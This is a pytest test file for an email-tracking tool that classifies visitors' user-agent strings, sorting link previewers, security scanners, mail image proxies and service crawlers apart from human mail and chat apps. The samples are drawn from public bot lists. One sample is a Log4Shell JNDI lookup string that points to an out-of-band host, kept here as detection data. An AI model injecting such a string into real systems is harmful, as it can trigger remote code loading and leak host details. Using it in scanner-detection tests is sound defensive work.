"""The agent tables against real agent strings, each from the public list that published it.

Every sample below was copied from the file named by its source constant (the
commits read are listed in src/mailbeacon/tracking/agents/SOURCES.md). Each
machine entry of the tables must be pinned by at least one sample, or be one of
the few name-only rules listed in NAME_ONLY_RULES; people's programs from the
same lists must stay people.
"""

from __future__ import annotations

import json

import pytest

from mailbeacon.models.event import EventKind, EventLabel
from mailbeacon.tracking.agents import AgentKind, Certainty, identify_agent
from mailbeacon.tracking.agents.machines import (
    IMAGE_PROXIES,
    LINK_PREVIEWS,
    NAME_ONLY,
    SECURITY,
    SERVICE_FETCHERS,
)
from mailbeacon.tracking.agents.matching import Table
from mailbeacon.tracking.classify import HitSignals, classify_hit

L = EventLabel

DD = "matomo-org/device-detector Tests/fixtures/bots.yml"
DD_APPS = "matomo-org/device-detector Tests/Parser/Client/fixtures/mobile_app.yml"
DD_PIM = "matomo-org/device-detector Tests/Parser/Client/fixtures/pim.yml"
CUA = "monperrus/crawler-user-agents crawler-user-agents.json"
CD = "JayBizzle/Crawler-Detect tests/data/user_agent/crawlers.txt"
ISBOT_BROWSERS = "omrilotan/isbot fixtures/browsers.yml"
ISBOT_MYIP = "omrilotan/isbot fixtures/downloaded/myip.ms.json"
ISBOT_UAN = "omrilotan/isbot fixtures/downloaded/user-agents.net.json"
UAPJS_FETCHER = "faisalman/ua-parser-js test/data/ua/extension/fetcher.json"
UAPJS_EMAIL = "faisalman/ua-parser-js test/data/ua/extension/email.json"
UAPJS_INAPP = "faisalman/ua-parser-js test/data/ua/extension/inapp.json"
UAPCORE = "ua-parser/uap-core tests/test_ua.yaml"
DISCORD_ISSUE = "https://github.com/discord/discord-api-docs/issues/3872"

# (entry key, real agent, where it was published)
LINK_PREVIEW_SAMPLES = [
    (
        "google_messages",
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/123.0.0.0 Safari/537.36 GoogleMessages/15.1"
        ),
        CD,
    ),
    ("yahoo_preview", "Yahoo:LinkExpander:Slingstone", DD),
    ("yahoo_preview", "YahooCacheSystem; YahooWebServiceClient", DD),
    ("facebook", "facebookexternalua", DD),
    (
        "facebook",
        ("meta-externalads/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)"),
        CUA,
    ),
    (
        "facebook",
        (
            "Mozilla/5.0 (compatible; Meta-ExternalHit/1.1; "
            "+http://www.facebook.com/externalhit_uatext.php)"
        ),
        CUA,
    ),
    ("facebook", "facebookplatform/1.0 (+http://developers.facebook.com)", DD),
    ("facebook", "facebookscraper/1.0( http://www.facebook.com/sharescraper_help.php)", DD),
    ("whatsapp", "GBWhatsApp/2.22.10.73 A", DD_APPS),
    ("whatsapp", "WhatsApp", CUA),
    ("whatsapp", "WhatsApp/2", DD_APPS),
    ("viber", "ViberUrlDownloader", DD),
    ("viber", "Viber", CUA),
    ("steam", "Valve/Steam HTTP Client 1.0 (SteamChatURLLookup)", DD),
    ("zoom", "Mozilla/5.0 (Zoom.Mac 10.8.5 x86)", CD),
    ("keybase", "Mozilla/5.0 (compatible; KeybaseBot; +https://keybase.io)", DD),
    (
        "bluesky",
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Bluesky "
            "Cardyb/1.1; +mailto:support@bsky.app) Chrome/100.0.0.0 Safari/537.36"
        ),
        UAPJS_FETCHER,
    ),
    ("bluesky", "BlueskyPreviewBot/1.0", CUA),
    ("mastodon", "http.rb/2.2.2 (Mastodon/1.6.1; +https://mathtod.online/)", DD),
    ("matrix", "Synapse (bot; +https://github.com/matrix-org/synapse)", DD),
    ("xing", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:15.0) Xing Bot", CUA),
    (
        "dingtalk",
        (
            "DingTalkBot-LinkService/1.0 "
            "(+https://open-doc.dingtalk.com/microapp/faquestions/ftpfeu)"
        ),
        CUA,
    ),
    ("groupme", "GroupMeBot/1.0", CUA),
    ("discourse", "Discourse Forum Onebox v3.3.0.beta1-dev", CUA),
    ("notion", "NotionEmbedder", CD),
    ("notion", "Notion/1.0 (https://notion.so; team@makenotion.com)", CUA),
    ("snapchat", "Mozilla/5.0 (compatible; SnapURLPreview/1.0; +https://www.snapchat.com)", CUA),
    (
        "snapchat",
        "Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots",
        CUA,
    ),
    ("office_check", "Microsoft Office Word 2013 (15.0.4623) Windows NT 6.2", CD),
    ("office_check", "Microsoft Office Excel 2013", CD),
    ("office_check", "Microsoft-WebDAV-MiniRedir/10.0.19042", DD_APPS),
    ("generic_preview", "WakeletLinkExpander/0.1", CD),
    ("generic_preview", "SMUrlExpander", CD),
    ("generic_preview", "ClickUpLinkUnfurler/1.0 (+https://clickup.com)", CUA),
    (
        "generic_preview",
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Web "
            "Preview) Chrome/27.0.1453 Safari/537.36"
        ),
        DD,
    ),
    ("generic_preview", "Chatwork LinkPreview v1", DD),
    ("discord", "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", DD),
    ("slack", "Slack-ImgProxy 0.66 (+https://api.slack.com/robots)", CUA),
    (
        "linkedin",
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
        CUA,
    ),
    ("skype", "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5", DD),
    (
        "microsoftpreview",
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
            "MicrosoftPreview/2.0; +https://aka.ms/MicrosoftPreview) Chrome/100.0.4896.127 "
            "Safari/537.36"
        ),
        DD,
    ),
    (
        "imessage",
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like "
            "Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0"
        ),
        ISBOT_MYIP,
    ),
    ("telegram", "TelegramBot (like TwitterBot)", DD),
    ("twitter", "Twitterbot/1.0", DD),
    ("iframely", "Iframely/1.3.1 (+https://iframely.com/docs/about) Atlassian", CUA),
    ("embedly", "Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)", DD),
    (
        "pinterest",
        "Mozilla/5.0 (compatible; Pinterestbot/1.0; http://www.pinterest.com/bot.html)",
        DD,
    ),
    ("reddit", "Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)", DD),
    ("vk", "Mozilla/5.0 (compatible; vkShare; +http://vk.com/dev/Share)", DD),
    ("quora", "Quora Link Preview/1.0 (http://www.quora.com)", DD),
    (
        "bing",
        (
            "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/534+ (KHTML, like Gecko) "
            "BingPreview/1.0b"
        ),
        DD,
    ),
    ("mattermost", "Mattermost-Bot/1.1", CUA),
    (
        "discord",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:38.0) Gecko/20100101 Firefox/38.0",
        DISCORD_ISSUE,
    ),
]

SECURITY_SAMPLES = [
    (
        "ukrnet",
        "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/55.0.2883.87 Safari/537.36 (via secureurl.fwdcdn.com - mail.ukr.net proxy)",
        DD,
    ),
    ("security_generic", "HubSpot-Link-Resolver", CD),
    ("internet_scanner", "WPScan v2.9 (http://wpscan.org)", CD),
    ("internet_scanner", "sqlmap/1.7.8#stable (https://sqlmap.org)", CUA),
    ("internet_scanner", "ZmEu", DD),
    (
        "leakix",
        "Lkx-TraversalHttpPlugin/0.0.1 (+https://leakix.net/, +https://twitter.com/HaboubiAnis)",
        DD,
    ),
    ("security_generic", "LinkAnalyser/2.0", CD),
    ("security_generic", "link-check/5.2.0", CD),
    ("google_safety", "Google-Safety", DD),
    (
        "google_safety",
        (
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/114.0.5735.179 Mobile Safari/537.36 (compatible; "
            "Google-Safety; +http://www.google.com/bot.html)"
        ),
        CUA,
    ),
    ("exchange_check", "Mozilla/5.0 (Exchange check)", DD),
    ("norton", "Norton-Safeweb", CD),
    ("symantec", "Mozilla/4.0 (compatible; MSIE 6.0; Bluecoat DRTR)", ISBOT_UAN),
    ("alibaba", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1;Alibaba.Security.Heimdall)", CD),
    ("scamadviser", "ScamadviserExternalHit/1.0", DD),
    ("esp_check", "SendGrid Event API", CUA),
    ("esp_check", "SparkPost", CUA),
    (
        "log4shell_probe",
        "${jndi:ldap://${hostName}.useragent.xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.oast.fun}",
        DD,
    ),
    ("internet_scanner", "Arachni/v1.5.1", DD),
    (
        "internet_scanner",
        "Mozilla/5.0 (X11; Linux x86_64) Nikto/2.5.0 (Evasions:None) (Test:Port Check)",
        CUA,
    ),
    ("internet_scanner", "Mozilla/5.0 [en] (X11, U; OpenVAS)", CUA),
    ("internet_scanner", "WhatWeb/0.4.8", UAPCORE),
    ("internet_scanner", "gobuster/3.1.0", DD),
    (
        "internet_scanner",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        DD,
    ),
    ("leakix", "l9explore/1.3.0", DD),
    ("leakix", "l9tcpid/v1.0.0", DD),
    ("leakix", "Mozilla/5.0 (l9scan/2.0.xxxxxxxxxxxxxxxxxxxxxxxx; +https://leakix.net)", DD),
    ("sophos", "SophosAgent/1.0 (type= spa )", UAPCORE),
    (
        "virustotal",
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/112.0.0.0 Safari/537.36 AppEngine-Google; "
            "(+http://code.google.com/appengine; appid: s~virustotalcloud)"
        ),
        DD,
    ),
    ("kaspersky", "Kaspersky Lab CFR link resolver cfradmins@kaspersky.com", DD),
    ("barracuda", "Barracuda Sentinel (EE)", DD),
    (
        "paloalto",
        (
            "Hello from Palo Alto Networks, find out more about our scans in "
            "https://docs-cortex.paloaltonetworks.com/r/1/Cortex-Xpanse/Scanning-activity"
        ),
        DD,
    ),
    ("censys", "Mozilla/5.0 (compatible; CensysInspect/1.1;  https://about.censys.io/)", DD),
    ("bitsight", "Mozilla/5.0 (compatible; BitSightBot/1.0)", DD),
    ("xforce", "Mozilla/5.0 (compatible; oBot/2.3.1; http://www.xforce-security.com/crawler/)", DD),
    ("safedns", "SafeDNSBot (https://www.safedns.com/searchbot)", DD),
    ("yandex_av", "Mozilla/5.0 (compatible; YandexAntivirus/2.0; +http://yandex.com/bots)", DD),
    ("genieo", "Mozilla/5.0 (compatible; Genieo/1.0 http://www.genieo.com/webfilter.html)", DD),
    ("zgrab", "Mozilla/5.0 zgrab/0.x", DD),
    ("security_generic", "Mozilla/5.0 (compatible; PhishBucketRust/1.0)", DD),
]

IMAGE_PROXY_SAMPLES = [
    ("seznam", "Mozilla/5.0 SeznamEmailProxy/2.0.174", DD),
    ("rambler", "RamblerMail/6.0 (incompatible; ImageProxy/6.0)", DD),
    ("shortwave", "Shortwave Image Fetcher", CUA),
    (
        "gmail",
        (
            "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com "
            "GoogleImageProxy)"
        ),
        DD,
    ),
    ("yahoo", "YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html", DD),
]

SERVICE_SAMPLES = [
    ("google", "GoogleOther", DD),
    (
        "google",
        (
            "GoogleProducer; "
            "(+https://developers.google.com/search/docs/crawling-indexing/google-producer)"
        ),
        CUA,
    ),
    (
        "google",
        (
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/W.X.Y.Z Mobile Safari/537.36 (compatible; "
            "Google-InspectionTool/1.0)"
        ),
        CUA,
    ),
    (
        "meta_indexer",
        "meta-webindexer/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
        CUA,
    ),
]

# Real agents of people's programs from the same lists: mail apps, chat and
# office apps' own windows, security vendors' browsers, and apps whose names
# contain a machine's word.
HUMAN_SAMPLES = [
    ("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.6326; Pro)", UAPCORE),
    (
        (
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/8.0; .NET4.0C; "
            ".NET4.0E; .NET CLR 2.0.50727; .NET CLR 3.0.30729; .NET CLR 3.5.30729; Microsoft "
            "Outlook 16.0.6366; ms-office; MSOffice 16)"
        ),
        UAPCORE,
    ),
    ("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5431; Pro)", UAPJS_EMAIL),
    ("Microsoft Office/16.0 (Microsoft Outlook Mail 16.0.8008; Pro)", ISBOT_BROWSERS),
    ("Outlook-iOS/665.29827.prod.iphone (2.63.0)", UAPCORE),
    ("Outlook-iOS/709.2189947.prod.iphone (3.24.0)", ISBOT_BROWSERS),
    ("Mail/3826.500.181.1.5 CFNetwork/3826.500.111.1.1 Darwin/24.4.0", UAPJS_EMAIL),
    ("SamsungEmail/6.1.80.12", UAPJS_EMAIL),
    ("Android-Gmail/64562652 (sw411dp; 420dpi) (r7 TP1A.220624.014)", DD_PIM),
    (
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_3) AppleWebKit/537.36 (KHTML, like "
            "Gecko) Teams/1.3.00.362 Chrome/66.0.3359.181 Electron/3.1.13 Safari/537.36"
        ),
        DD_APPS,
    ),
    (
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko) Mobile/15E148 TeamsMobile-iOS"
        ),
        UAPJS_INAPP,
    ),
    (
        (
            "Mozilla/5.0 (Linux; Android 8.1.0; SM-G610F Build/M1AJQ; wv) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Version/4.0 Chrome/87.0.4280.101 Mobile Safari/537.36 "
            "TeamsMobile-Android"
        ),
        UAPJS_INAPP,
    ),
    (
        (
            "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "discord/1.0.9003 Chrome/91.0.4472.164 Electron/13.4.0 Safari/537.36"
        ),
        DD_APPS,
    ),
    (
        (
            "Mozilla/5.0 (Windows NT 10.0.18362; Win64; x64) AppleWebKit/537.36 (KHTML, like "
            "Gecko) Slack/4.4.2 Chrome/78.0.3904.130 Electron/7.2.1 Safari/537.36 "
            "WindowsStore/10.0.18362 Sonic Slack_SSB/4.4.2"
        ),
        ISBOT_BROWSERS,
    ),
    (
        (
            "Mozilla/5.0 (Windows NT 6.2) AppleWebKit/537.36 (KHTML, like Gecko) "
            "WhatsAppElectron/1.0.3 Chrome/108.0.5359.215 Electron/22.3.27 Safari/537.36"
        ),
        DD_APPS,
    ),
    ("Viber/12.8.0.1 CFNetwork/1121.2.2 Darwin/19.3.0", ISBOT_BROWSERS),
    (
        (
            "Mozilla/5.0 (Linux; Android 7.1.2; G011A Build/N2G48H; wv) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Version/4.0 Chrome/66.0.3359.158 Safari/537.36 Viber/11.9.5.8"
        ),
        ISBOT_BROWSERS,
    ),
    ("Telegram/29835 CFNetwork/1333.0.4 Darwin/21.5.0", DD_APPS),
    (
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 13_3 like Mac OS X) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko) Mobile/15E148 [LinkedInApp]"
        ),
        DD_APPS,
    ),
    (
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/131.0.0.0 Safari/537.36 Norton/131.0.0.0"
        ),
        UAPCORE,
    ),
    (
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/131.0.0.0 Safari/537.36 Avira/131.0.0.0"
        ),
        UAPCORE,
    ),
    (
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2_1 like Mac OS X) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko) AvastSecureBrowser/5.3.1 Mobile/15E148 Version/17.0 "
            "Safari/605.1.15"
        ),
        UAPCORE,
    ),
    (
        (
            "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/535.11 (KHTML, like Gecko) "
            "Comodo_Dragon/17.1.0.0 Chrome/17.0.963.38 Safari/535.11"
        ),
        ISBOT_BROWSERS,
    ),
    (
        (
            "Mozilla/5.0 (iPad; CPU OS 16_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
            "Gecko) FSCDCSafe/20.1.291705 Mobile/15E148 Version/16.5.1 Safari/605.1.15"
        ),
        DD_APPS,
    ),
    (
        (
            "Mozilla/5.0 (Linux; Android 9; SM-A530F Build/PPR1.180610.011; wv) "
            "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/111.0.5563.58 Mobile "
            "Safari/537.36 CamScanner/6.27.0.2210170000"
        ),
        DD_APPS,
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64; rv:38.0) Gecko/20100101 Firefox/38.0 Iceweasel/38.4.0",
        ISBOT_BROWSERS,
    ),
]

# Rules kept from the first version that match a vendor's name; no public list
# has an agent string of theirs (their gateways send ordinary browser agents,
# which the network lists and timing rules catch instead).
NAME_ONLY_RULES = {
    "link_preview:skypebot",
    "link_preview:google_chat",
    "security:mimecast",
    "security:proofpoint",
    "security:safelinks",
    "security:bitdefender",
    "security:trendmicro",
    "security:forcepoint",
    "security:fortinet",
    "security:checkpoint",
    "security:cisco",
    "security:zscaler",
    "security:urlscan",
    "security:netcraft",
}

TABLES: dict[str, Table] = {
    "link_preview": LINK_PREVIEWS,
    "security": SECURITY,
    "image_proxy": IMAGE_PROXIES,
    "service": SERVICE_FETCHERS,
}
SAMPLES = {
    "link_preview": LINK_PREVIEW_SAMPLES,
    "security": SECURITY_SAMPLES,
    "image_proxy": IMAGE_PROXY_SAMPLES,
    "service": SERVICE_SAMPLES,
}


def _ids(samples: list[tuple[str, str, str]]) -> list[str]:
    return [f"{key}:{agent[:40]}" for key, agent, _ in samples]


def _label(kind: str, agent: str) -> EventLabel:
    return classify_hit(HitSignals(kind=kind, user_agent=agent)).label


@pytest.mark.parametrize(
    ("key", "agent", "source"), LINK_PREVIEW_SAMPLES, ids=_ids(LINK_PREVIEW_SAMPLES)
)
def test_link_previewers_are_link_previews_for_opens_and_clicks(
    key: str, agent: str, source: str
) -> None:
    assert identify_agent(agent).rule == f"link_preview:{key}", source
    assert _label("open", agent) == L.LINK_PREVIEW
    assert _label("click", agent) == L.LINK_PREVIEW


@pytest.mark.parametrize(("key", "agent", "source"), SECURITY_SAMPLES, ids=_ids(SECURITY_SAMPLES))
def test_security_scanners_are_scanners(key: str, agent: str, source: str) -> None:
    assert identify_agent(agent).rule == f"security:{key}", source
    assert _label("open", agent) == L.SCANNER
    assert _label("click", agent) == L.SCANNER


@pytest.mark.parametrize(("key", "agent", "source"), SERVICE_SAMPLES, ids=_ids(SERVICE_SAMPLES))
def test_service_crawlers_without_a_robot_word_are_scanners(
    key: str, agent: str, source: str
) -> None:
    assert identify_agent(agent).rule == f"service:{key}", source
    assert _label("open", agent) == L.SCANNER


@pytest.mark.parametrize(
    ("key", "agent", "source"), IMAGE_PROXY_SAMPLES, ids=_ids(IMAGE_PROXY_SAMPLES)
)
def test_mail_image_proxies_count_opens_but_never_clicks(key: str, agent: str, source: str) -> None:
    assert identify_agent(agent).rule == f"image_proxy:{key}", source
    assert _label("open", agent) == L.IMAGE_PROXY
    assert _label("click", agent) == L.SCANNER


@pytest.mark.parametrize(("agent", "source"), HUMAN_SAMPLES, ids=[a[:50] for a, _ in HUMAN_SAMPLES])
def test_peoples_programs_from_the_same_lists_stay_human(agent: str, source: str) -> None:
    assert identify_agent(agent).is_person, source
    assert _label("open", agent) == L.HUMAN
    assert _label("click", agent) == L.HUMAN


@pytest.mark.parametrize("table", sorted(TABLES))
def test_every_machine_rule_is_pinned_by_a_real_agent_or_declared_name_only(table: str) -> None:
    sampled = {f"{table}:{key}" for key, _, _ in SAMPLES[table]}
    for entry in TABLES[table].entries:
        rule = f"{table}:{entry.key}"
        assert entry.source, f"{rule} names no source"
        if entry.source == NAME_ONLY:
            assert rule in NAME_ONLY_RULES, f"{rule} is name-only: declare it or find a sample"
            assert rule not in sampled, f"{rule} has a sample now: cite its source"
        else:
            assert rule in sampled, f"{rule} cites {entry.source} but no sample pins it"


def test_name_only_rules_are_real_rules() -> None:
    known = {f"{t}:{e.key}" for t, table in TABLES.items() for e in table.entries}
    assert known >= NAME_ONLY_RULES


@pytest.mark.parametrize(
    ("agent", "source"),
    [
        ("ZoomInfo::Beehive Crawler", UAPCORE),
        ("ZoomSpider - wrensoft.com", UAPCORE),
        ("ZoominfoBot (zoominfobot at zoominfo dot com)", CUA),
    ],
)
def test_zoom_named_crawlers_are_not_zoom_link_previews(agent: str, source: str) -> None:
    found = identify_agent(agent)
    assert (found.kind, found.rule) == (AgentKind.SCANNER, "bot_word"), source


def test_a_proxy_without_a_published_network_is_never_certain() -> None:
    seznam = "Mozilla/5.0 SeznamEmailProxy/2.0.174"
    for network in (None, "apple"):
        verdict = classify_hit(HitSignals(kind="open", user_agent=seznam, network=network))
        assert verdict.certainty is not Certainty.HIGH, verdict


def test_certainty_is_an_enum_that_reads_and_serialises_as_before() -> None:
    verdict = classify_hit(HitSignals(kind="open", user_agent="Barracuda Sentinel (EE)"))
    assert verdict.certainty is Certainty.HIGH
    assert verdict.certainty == "high"
    assert json.dumps({"certainty": verdict.certainty}) == '{"certainty": "high"}'
    assert [c.value for c in Certainty] == ["high", "medium", "low"]


@pytest.mark.parametrize("kind", list(EventKind))
def test_event_kind_members_and_plain_strings_classify_alike(kind: EventKind) -> None:
    agent = (
        "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)"
    )
    as_enum = classify_hit(HitSignals(kind=kind, user_agent=agent))
    as_text = classify_hit(HitSignals(kind=str(kind), user_agent=agent))
    assert as_enum == as_text


@pytest.mark.parametrize(
    ("agent", "source"),
    [
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
            "pageburst) Chrome/98.0.4758.102 Safari/537.36",
            DD,
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
            "Google-Agent)",
            CUA,
        ),
    ],
)
def test_a_robot_introducing_itself_inside_another_group_is_a_machine(
    agent: str, source: str
) -> None:
    assert identify_agent(agent).rule == "compatible", source
    assert _label("click", agent) == L.SCANNER
